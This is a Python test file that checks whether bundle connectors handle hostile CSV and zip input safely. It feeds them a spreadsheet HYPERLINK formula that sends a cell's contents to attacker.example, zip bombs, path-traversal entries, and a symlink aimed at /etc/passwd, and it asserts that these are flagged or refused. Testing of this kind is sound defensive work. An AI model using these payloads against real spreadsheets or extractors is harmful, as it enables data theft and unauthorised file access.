"""Inputs that break others, through each connector that reads bundles: nothing is lost, nothing is guessed, and what must not be read is refused."""

from __future__ import annotations

from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from sandbox.bundles import hostile
from sandbox.bundles.writer import csv_bytes
from services.common.connections import Connection
from services.extractor.connector import START, ConnectorContext
from services.extractor.connectors.bundle.connector import BundleConnector
from services.extractor.connectors.bundle.container import BundleRefusedError
from services.extractor.connectors.bundle.layout import CellType, EntityLayout, build_layout
from services.extractor.connectors.novo_work_order.connector import NovoWorkOrder
from services.extractor.connectors.octopuspro.connector import OctopusPro
from services.extractor.connectors.results.connector import Results
from tests.fakes.clock import FakeClock
from tests.fixtures.bundle.toy import EVERYTHING, Frozen, NoGate

SOURCES = (NovoWorkOrder, OctopusPro, Results)
MILLION = 1_000_000
LONG = 'é, "x"; =1\n' * 20_000
RIGHT_TO_LEFT = "شركة المياه \u202eevil\u202c \u200fמים\u200f"  # noqa: RUF001
FORMULA = '=HYPERLINK("http://attacker.example/?"&A1;"click")'
MUNICIPAL = [f"Ward {number % 30}" for number in range(90)]
"""Ninety heads, each three times."""


@dataclass(frozen=True)
class Table:
    """A table of a source, as its layout has it."""

    name: str
    layout: EntityLayout

    @property
    def ids(self) -> list[str]:
        return [self.layout.columns[one].heads[0] for one in self.layout.id]

    def column(self, *kinds: CellType) -> str:
        """Return the first column of one of these types that is neither the id nor refers to another table."""
        return next(name for name, one in self.layout.columns.items() if one.type in kinds and name not in self.layout.id and not one.refers_to)

    def content(self, rows: list[list[str]], column: str, *more: str) -> bytes:
        """Write rows of a number for the id, a cell for a column, and more cells; required columns are filled."""
        needed = [one for name, one in self.layout.columns.items() if one.is_required and name not in {*self.layout.id, column}]
        heads = [*self.ids, self.layout.columns[column].heads[0], *(one.heads[0] for one in needed), *more]
        return csv_bytes([heads, *([row[0]] * len(self.ids) + [row[1]] + ["1"] * len(needed) + row[2:] for row in rows)])


def tables(source: type[BundleConnector]) -> list[Table]:
    """Return the required tables of a source that have an id, the main one last."""
    layout = build_layout([("default", source.default)])
    return [Table(name, one) for name, one in layout.entities.items() if one.is_required and one.id]


def bundle_with(folder: Path, source: type[BundleConnector], content: bytes) -> Path:
    """Write a bundle whose main table has this content."""
    folder.mkdir(parents=True, exist_ok=True)
    for table in tables(source):
        (folder / f"{table.layout.source_name}.csv").write_bytes(table.content([["1", "x"]], table.column(CellType.TEXT)))
    (folder / f"{tables(source)[-1].layout.source_name}.csv").write_bytes(content)
    return folder


@asynccontextmanager
async def opened(source: type[BundleConnector], place: Path, **options: Any) -> AsyncIterator[BundleConnector]:
    def no_client(*_: Any, **__: Any) -> Any:
        raise AssertionError("a bundle needs no network")

    context = ConnectorContext(
        Connection("source", str(place)), {"time_zone": "America/New_York", **options}, NoGate(), Frozen(), FakeClock(), no_client
    )
    async with source.connect(context) as connector:
        yield connector


@pytest.mark.requirement("X-04", "X-08", "G-08")
@pytest.mark.parametrize("source", SOURCES)
async def test_everything_odd_in_one_table_arrives_as_it_is(tmp_path: Path, source: type[BundleConnector]) -> None:
    table = tables(source)[-1]
    text = table.column(CellType.TEXT)
    cells = [f"{number}" for number in range(len(MUNICIPAL))]
    first = table.content([["11", RIGHT_TO_LEFT, *cells], ["12", LONG, *cells], ["13", FORMULA, *cells]], text, *MUNICIPAL)
    second = table.content([["14", "Ann", *cells], ["15", "Bob", *cells], ["16", "ümlaut", *cells]], text, *MUNICIPAL)
    damaged = hostile.with_mixed_line_ends(hostile.with_nul_bytes(second))
    place = bundle_with(tmp_path, source, hostile.put_together([first, damaged]))
    async with opened(source, place) as connector:
        findings = {one.code: one for one in (await connector.findings()).findings if one.entity == table.name}
        read = [one async for page in connector.read(table.name, START, EVERYTHING) for one in page.records]
    assert [one.data[text] for one in read] == [RIGHT_TO_LEFT, LONG.strip(), FORMULA, "Ann", "Bob", "ümlaut"]
    assert {one.source_id.partition("/")[0] for one in read} == {"11", "12", "13", "14", "15", "16"}
    others = read[-1].data["other_columns"]
    assert [others[name] for name in ("Ward 7", "Ward 7 (2)", "Ward 7 (3)")] == ["7", "37", "67"]
    assert len(others) == len(MUNICIPAL)
    assert {"nul_bytes", "mark_in_text", "line_ends_mixed", "heads_repeated", "formulas"} <= set(findings)
    assert (findings["heads_repeated"].count, findings["formulas"].samples) == (30, ["row 4"])


@pytest.mark.requirement("X-05", "L-01")
@pytest.mark.parametrize("source", SOURCES)
async def test_a_date_such_as_02_03_04_is_asked_and_not_guessed(tmp_path: Path, source: type[BundleConnector]) -> None:
    table = tables(source)[-1]
    day = table.column(CellType.DATE, CellType.DATETIME)
    place = bundle_with(tmp_path, source, table.content([["11", "02/03/04"]], day))
    async with opened(source, place) as connector:
        stop = (await connector.findings()).tables[table.name].stop
    # The layout of Results says itself which hundred years its short years mean.
    assert ("two_digit_years" in stop) == (source is not Results)
    assert "date_order" in stop
    for order, expected in (("dmy", "2004-03-02"), ("mdy", "2004-02-03"), ("ymd", "2002-03-04")):
        async with opened(source, place, date_order=order, two_digit_years=1970) as connector:
            (record,) = [one async for page in connector.read(table.name, START, EVERYTHING) for one in page.records]
        assert record.data[day].startswith(expected)


@pytest.mark.requirement("X-08")
@pytest.mark.parametrize("source", SOURCES)
async def test_bombs_and_paths_that_lead_out_are_refused_before_anything_is_read(tmp_path: Path, source: type[BundleConnector]) -> None:
    name = f"{tables(source)[-1].layout.source_name}.csv"
    out = {name: b"x", "../../outside.csv": b"x"}
    for place, words in (
        (hostile.bomb(tmp_path / "bomb.zip", name), "would unpack to"),
        (hostile.zip_with(tmp_path / "out.zip", out), "leads out of it"),
        (hostile.zip_with(tmp_path / "root.zip", {"/etc/outside.csv": b"x"}), "leads out of it"),
        (hostile.zip_with(tmp_path / "link.zip", {name: b"/etc/passwd"}, link=name), "holds a link"),
    ):
        async with opened(source, place) as connector:
            with pytest.raises(BundleRefusedError, match=words):
                await connector.check()
    assert not (tmp_path.parent / "outside.csv").exists()


@pytest.mark.slow
@pytest.mark.requirement("L-06", "X-04")
async def test_a_million_rows_in_one_csv_are_all_there_once(tmp_path: Path) -> None:
    place = bundle_with(tmp_path, NovoWorkOrder, b"")
    with (place / "work_orders.csv").open("w") as file:
        file.write("Work Order ID,Title\n")
        file.writelines(f"{number},Pump {number}\n" for number in range(1, MILLION + 1))
    seen = bytearray(MILLION + 1)
    most = 0
    async with opened(NovoWorkOrder, place, page_rows=5_000) as connector:
        assert (await connector.findings()).tables["work_order"].row_count == MILLION
        async for page in connector.read("work_order", START, EVERYTHING):
            most = max(most, len(page.records))
            for one in page.records:
                seen[int(one.source_id)] += 1
                assert one.data == {"work_order_id": one.source_id, "title": f"Pump {one.source_id}"}
    assert seen[0] == 0
    assert seen.count(1) == MILLION
    assert most == 5_000
